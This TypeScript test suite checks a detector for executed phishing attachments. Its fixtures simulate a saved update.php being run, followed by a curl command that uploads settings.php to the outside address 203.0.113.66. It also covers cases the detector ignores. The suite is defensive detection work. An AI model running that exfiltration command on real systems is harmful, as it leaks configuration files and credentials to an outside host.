import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from './an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HostLog, MINUTE } from './an0656-phishing-attachment-executed/host-log.test-support.ts';
import {
  factorsOf,
  firesAt,
  inOrder,
  scanLog,
  storyOf,
  strengthsOf,
} from './an0656-phishing-attachment-executed/stories.test-support.ts';

/** Connections are not recorded: whom content has a transfer program reach stands in that program's words. */

const URL = 'http://203.0.113.66/c';
const PATH = '/home/dev/Downloads/update.php';

function saved(network = false): { log: HostLog; shell: Process } {
  const log = new HostLog({ network });
  log.deliver({ to: 'dev', unseen: true });
  log.wait(MINUTE);
  log.desktop('dev').run('/usr/lib/thunderbird/thunderbird').write(PATH);
  log.wait(MINUTE);
  return { log, shell: log.shell('dev') };
}

const run = (shell: Process): Process => shell.run(`/usr/bin/php ${PATH}`).read(PATH);
const told = (steps: readonly { readonly summary: string }[]) =>
  steps.filter(({ summary }) => summary.includes('is told to reach'));

test('what the content has curl upload is told and counts', async () => {
  const { log, shell } = saved();
  run(shell)
    .run(['/bin/sh', '-c', `curl -s --data-binary @settings.php ${URL}`])
    .run(`/usr/bin/curl -s --data-binary @settings.php ${URL}`);
  const alert = firesAt(await scanLog(log), 'AN0656', 'high');
  inOrder(alert, [['content.executed'], ['network.connected', '/usr/bin/curl', 'is told to reach 203.0.113.66:80']]);
  assert.ok(strengthsOf(alert, 'process-tree').includes('inferred'));
  assert.match(alert.story, /had curl reach out to 203\.0\.113\.66:80/);
});

test('what names this very host, a name of the own network, or nobody counts for nothing', async () => {
  for (const words of [
    '/usr/bin/curl -s http://127.0.0.1/flush',
    '/usr/bin/curl http://cache/flush',
    '/usr/bin/nc -l 80',
  ]) {
    const { log, shell } = saved();
    run(shell).run(words);
    const alert = storyOf(await scanLog(log), 'AN0656');
    assert.deepEqual(told(alert.steps), [], words);
    assert.ok(!factorsOf(alert).includes('outbound network afterwards'));
  }
});

test('what its person starts beside it counts for nothing', async () => {
  const { log, shell } = saved();
  run(shell);
  shell.run(`/usr/bin/curl -s ${URL}`);
  assert.deepEqual(told(storyOf(await scanLog(log), 'AN0656').steps), []);
});

test('where connections are recorded they tell', async () => {
  const { log, shell } = saved(true);
  run(shell).run(`/usr/bin/curl -s ${URL}`);
  shell.run('/usr/bin/curl -s http://203.0.113.5/').connect('203.0.113.5', 80);
  const alert = storyOf(await scanLog(log), 'AN0656');
  assert.deepEqual(told(alert.steps), []);
  assert.ok(!factorsOf(alert).includes('outbound network afterwards'));
});
